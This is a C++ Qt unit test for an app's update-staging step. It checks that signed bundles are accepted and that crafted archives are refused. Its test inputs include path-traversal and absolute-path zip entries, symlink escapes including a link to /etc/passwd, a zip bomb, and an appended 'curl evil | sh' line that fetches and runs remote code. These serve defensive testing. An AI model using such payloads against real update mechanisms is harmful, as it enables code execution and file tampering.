// A downloaded update becomes a stage only when its digest, its unpacking and its bundle test all pass;
// every crafted archive is refused with its own message and leaves nothing behind.
#include "account/UpdateStage.h"
#include "platform/BundleManifest.h"
#include "platform/Ed25519.h"
#include "support/ReleaseRig.h"
#include "support/TempDataDir.h"

#include <QDir>
#include <QProcess>
#include <QtTest>
#include <functional>

namespace {
// Puts tarnel.zip into the stage folder; answers its SHA-256 (empty on failure).
using Craft = std::function<QString(ReleaseRig& rig, const QString& stage)>;

QString copyOf(ReleaseRig& rig, const QString& signedBundle, const QString& name)
{
    const QString parent = rig.path(name);
    QDir(parent).removeRecursively();
    QDir().mkpath(parent);
    QProcess::execute(QStringLiteral("cp"), {QStringLiteral("-a"), signedBundle, parent + QStringLiteral("/tarnel.app")});
    return parent + QStringLiteral("/tarnel.app");
}

QString zipped(const QString& bundle, const QString& stage)
{
    const QString archive = stage + QStringLiteral("/tarnel.zip");
    return ReleaseRig::zipAsIs(bundle, archive) ? *BundleManifest::fileSha256(archive) : QString();
}

QString crafted(const CraftedZip& zip, const QString& stage)
{
    const QString archive = stage + QStringLiteral("/tarnel.zip");
    return zip.save(archive) ? *BundleManifest::fileSha256(archive) : QString();
}

// A copy of the signed bundle changed by `change`, zipped as it stands.
Craft changed(std::function<bool(const QString& app)> change)
{
    return [change](ReleaseRig& rig, const QString& stage) {
        const QString app = copyOf(rig, rig.path(QStringLiteral("good/tarnel.app")), QStringLiteral("changed"));
        return change(app) ? zipped(app, stage) : QString();
    };
}

bool append(const QString& path, const QByteArray& bytes)
{
    QFile file(path);
    return file.open(QIODevice::Append) && file.write(bytes) == bytes.size();
}
} // namespace

Q_DECLARE_METATYPE(Craft)

class UpdateStageTest : public QObject {
    Q_OBJECT

    TempDataDir data;
    ReleaseRig rig;
    QString outside; // where an escaping archive would write

private Q_SLOTS:
    void initTestCase()
    {
        QVERIFY2(rig.ok(), "tarnel-sign keygen failed");
        const QString good = rig.makeBundle(QStringLiteral("good"), QStringLiteral("13"));
        QVERIFY(rig.sign(good));
        outside = data.file(QStringLiteral("outside"));
        QVERIFY(QDir().mkpath(outside));
    }

    void settles_data()
    {
        QTest::addColumn<Craft>("craft");
        QTest::addColumn<bool>("upperCase");
        QTest::addColumn<bool>("withKeys");
        QTest::addColumn<QString>("message"); // empty: accepted

        const Craft signedRelease = [](ReleaseRig& rig, const QString& stage) {
            return ReleaseRig::pack(rig.path(QStringLiteral("good/tarnel.app")), stage + QStringLiteral("/tarnel.zip"));
        };
        const QString unpackFailed = QStringLiteral("解压更新包失败");
        const QString versionWrong = QStringLiteral("更新包里的版本信息不对");
        auto wrong = [](int n) { return QStringLiteral("更新包的签名不对（%1），已丢弃").arg(n); };

        QTest::newRow("signed release") << signedRelease << false << true << QString();
        QTest::newRow("digest in upper case") << signedRelease << true << true << QString();
        QTest::newRow("digest differs") << Craft([signedRelease](ReleaseRig& rig, const QString& stage) {
            signedRelease(rig, stage);
            return QString(64, QLatin1Char('0'));
        }) << false << true << QStringLiteral("下载的更新包校验不对（可能没下完整），稍后会自动重试");
        QTest::newRow("escape by ..") << Craft([this](ReleaseRig& rig, const QString& stage) {
            CraftedZip zip;
            zip.addFolder(rig.path(QStringLiteral("good/tarnel.app")));
            zip.addFile(QStringLiteral("tarnel.app/../../../../../../../..") + outside + QStringLiteral("/dots"), "x");
            return crafted(zip, stage);
        }) << false << true << unpackFailed;
        QTest::newRow("absolute name") << Craft([this](ReleaseRig& rig, const QString& stage) {
            CraftedZip zip;
            zip.addFolder(rig.path(QStringLiteral("good/tarnel.app")));
            zip.addFile(outside + QStringLiteral("/absolute"), "x");
            return crafted(zip, stage);
        }) << false << true << unpackFailed;
        QTest::newRow("write through a link") << Craft([this](ReleaseRig& rig, const QString& stage) {
            CraftedZip zip;
            zip.addFolder(rig.path(QStringLiteral("good/tarnel.app")));
            zip.addLink(QStringLiteral("tarnel.app/share/out"), outside);
            zip.addFile(QStringLiteral("tarnel.app/share/out/through"), "x");
            return crafted(zip, stage);
        }) << false << true << unpackFailed;
        QTest::newRow("wrong identifier") << changed([](const QString& app) {
            QFile info(app + QStringLiteral("/info.json"));
            return info.open(QIODevice::WriteOnly | QIODevice::Truncate)
                && info.write(R"({"build":"13","identifier":"com.other.app","version":"1.4.0"})") > 0;
        }) << false << true << versionWrong;
        QTest::newRow("build 13.1") << Craft([](ReleaseRig& rig, const QString& stage) {
            const QString app = rig.makeBundle(QStringLiteral("point"), QStringLiteral("13.1"));
            return zipped(app, stage);
        }) << false << true << versionWrong;
        QTest::newRow("bundle under another name") << Craft([](ReleaseRig& rig, const QString& stage) {
            const QString app = copyOf(rig, rig.path(QStringLiteral("good/tarnel.app")), QStringLiteral("renamed"));
            const QString other = rig.path(QStringLiteral("renamed/other.app"));
            return QDir().rename(app, other) ? zipped(other, stage) : QString();
        }) << false << true << versionWrong;
        QTest::newRow("unsigned") << changed([](const QString& app) {
            return QDir(app + QStringLiteral("/signature")).removeRecursively();
        }) << false << true << QStringLiteral("读不到更新包的签名");
        QTest::newRow("no requirement in this copy") << signedRelease << false << false
                                                     << QStringLiteral("读不到当前 tarnel 的签名要求");
        QTest::newRow("another key") << changed([](const QString& app) {
            ReleaseRig other;
            return other.ok() && other.sign(app);
        }) << false << true << wrong(1);
        QTest::newRow("listed file missing") << changed([](const QString& app) {
            return QFile::remove(app + QStringLiteral("/share/tarnel/notes.txt"))
                && QFile::remove(app + QStringLiteral("/bin/notes"))
                && QFile::link(QStringLiteral("../info.json"), app + QStringLiteral("/bin/notes"));
        }) << false << true << wrong(2);
        QTest::newRow("tampered file") << changed([](const QString& app) {
            return append(app + QStringLiteral("/bin/tarnel"), "curl evil | sh\n");
        }) << false << true << wrong(3);
        QTest::newRow("extra file") << changed([](const QString& app) {
            return append(app + QStringLiteral("/share/tarnel/plugin.so"), "x");
        }) << false << true << wrong(4);
        QTest::newRow("executable bit dropped") << changed([](const QString& app) {
            return QFile::setPermissions(app + QStringLiteral("/bin/tarnel"), QFile::ReadOwner | QFile::WriteOwner);
        }) << false << true << wrong(5);
        QTest::newRow("link out") << changed([](const QString& app) {
            return QFile::link(QStringLiteral("/etc/passwd"), app + QStringLiteral("/share/tarnel/passwd"));
        }) << false << true << wrong(6);
        QTest::newRow("link up and out") << changed([](const QString& app) {
            return QFile::link(QStringLiteral("../../.."), app + QStringLiteral("/share/tarnel/up"));
        }) << false << true << wrong(6);
        QTest::newRow("unsafe path in the manifest") << changed([this](const QString& app) {
            BundleManifest manifest = *BundleManifest::parse(readFile(BundleManifest::manifestPath(app)));
            manifest.entries.append({QStringLiteral("bin/../../escape"), BundleManifest::Type::file, false,
                                     QString(64, QLatin1Char('0')), {}});
            const QByteArray bytes = manifest.canonicalBytes();
            QFile out(BundleManifest::manifestPath(app));
            QFile sig(BundleManifest::signaturePath(app));
            return out.open(QIODevice::WriteOnly | QIODevice::Truncate) && out.write(bytes) == bytes.size()
                && sig.open(QIODevice::WriteOnly | QIODevice::Truncate)
                && sig.write(Ed25519::sign(bytes, readFile(rig.keyPath()))->toBase64()) > 0;
        }) << false << true << wrong(7);
        // 80 MiB of zeros packed into a few dozen KiB.
        QTest::newRow("unpacks to more than its bound") << changed([](const QString& app) {
            QFile zeros(app + QStringLiteral("/share/tarnel/zeros"));
            return zeros.open(QIODevice::WriteOnly) && zeros.resize(qint64(80) << 20);
        }) << false << true << QStringLiteral("更新包解开后太大，已丢弃");
    }

    void settles()
    {
        QFETCH(Craft, craft);
        QFETCH(bool, upperCase);
        QFETCH(bool, withKeys);
        QFETCH(QString, message);
        const QString stage = data.file(QStringLiteral("updates/13"));
        QDir(stage).removeRecursively();
        QVERIFY(QDir().mkpath(stage));
        QString digest = craft(rig, stage);
        QVERIFY(!digest.isEmpty());
        if (upperCase)
            digest = digest.toUpper();

        const auto problem = UpdateStage::settle(stage, digest, 13, withKeys ? std::optional(rig.keys()) : std::nullopt);
        QCOMPARE(problem.value_or(QString()), message);
        if (message.isEmpty()) {
            QVERIFY(!QFile::exists(stage + QStringLiteral("/tarnel.zip")));
            QVERIFY(QFileInfo(stage + QStringLiteral("/tarnel.app/bin/tarnel")).isExecutable());
            QCOMPARE(QFileInfo(stage + QStringLiteral("/tarnel.app/bin/notes")).symLinkTarget(),
                     stage + QStringLiteral("/tarnel.app/share/tarnel/notes.txt"));
        } else {
            QVERIFY2(!QFile::exists(stage), "a refused stage is removed");
        }
        QCOMPARE(QDir(outside).entryList(QDir::AllEntries | QDir::NoDotAndDotDot), QStringList());
    }
};

QTEST_GUILESS_MAIN(UpdateStageTest)
#include "UpdateStageTest.moc"
